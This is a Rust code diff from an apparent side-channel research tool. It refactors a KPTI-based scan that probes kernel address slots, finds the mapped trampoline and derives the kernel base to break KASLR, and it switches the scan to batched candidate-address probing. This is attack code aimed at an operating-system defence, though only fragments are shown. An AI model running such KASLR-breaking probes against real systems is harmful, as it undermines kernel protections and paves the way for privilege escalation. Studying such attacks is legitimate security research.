@@ -8,7 +8,7 @@
 //! region derandomizes the base.
 
 use avx_mmu::VirtAddr;
-use avx_os::linux::{KASLR_ALIGN, KERNEL_SLOTS, KERNEL_TEXT_REGION_START};
+use avx_os::linux::{KASLR_ALIGN, KERNEL_SLOTS};
 
 use crate::calibrate::Threshold;
 use crate::primitives::PageTableAttack;
@@ -51,14 +51,14 @@ impl KptiAttack {
     }
 
     /// Scans the kernel region and derives the base from the first
-    /// mapped slot.
+    /// mapped slot. The candidates are fed through the batched probe
+    /// pipeline.
     pub fn scan<P: Prober + ?Sized>(&self, p: &mut P) -> KptiScan {
         let probing_before = p.probing_cycles();
         let total_before = p.total_cycles();
-        let start = VirtAddr::new_truncate(KERNEL_TEXT_REGION_START);
-        let samples = self
-            .attack
-            .measure_range(p, start, KASLR_ALIGN, KERNEL_SLOTS);
+        let range = super::kaslr::KernelBaseFinder::candidate_range();
+        let start = range.start;
+        let samples = self.attack.measure_addrs(p, &range.to_vec());
         p.spend(KERNEL_SLOTS * PER_SLOT_OVERHEAD_CYCLES);
         let mapped = self.attack.classify(&samples);
         let mapped_slots: Vec<u64> = mapped
@@ -70,9 +70,8 @@ impl KptiAttack {
         let trampoline = mapped_slots
             .first()
             .map(|&slot| start.wrapping_add(slot * KASLR_ALIGN));
-        let base = trampoline.map(|t| {
-            VirtAddr::new_truncate(t.as_u64().wrapping_sub(self.trampoline_offset))
-        });
+        let base = trampoline
+            .map(|t| VirtAddr::new_truncate(t.as_u64().wrapping_sub(self.trampoline_offset)));
         KptiScan {
             mapped_slots,
             trampoline,
